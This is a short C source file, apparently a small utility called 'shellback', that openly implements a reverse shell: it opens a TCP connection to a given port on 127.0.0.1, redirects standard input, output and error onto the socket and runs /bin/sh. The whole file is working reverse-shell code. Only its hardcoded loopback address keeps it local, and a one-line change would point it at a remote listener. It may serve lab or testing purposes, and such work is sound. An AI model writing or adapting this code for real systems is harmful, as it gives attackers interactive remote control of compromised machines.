/* SPDX-License-Identifier: Apache-2.0 */
/* shellback PORT: a reverse shell to 127.0.0.1: the connection becomes its standard streams, and then it runs a shell. */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdlib.h>
#include <sys/socket.h>
#include <unistd.h>

int main(int argc, char **argv)
{
	struct sockaddr_in to = { .sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK) };
	int fd = socket(AF_INET, SOCK_STREAM, 0);

	to.sin_port = htons(argc > 1 ? atoi(argv[1]) : 0);
	if (connect(fd, (struct sockaddr *)&to, sizeof(to)))
		return 1;
	for (int standard = 0; standard < 3; standard++)
		dup2(fd, standard);
	execl("/bin/sh", "sh", NULL);
	return 2;
}
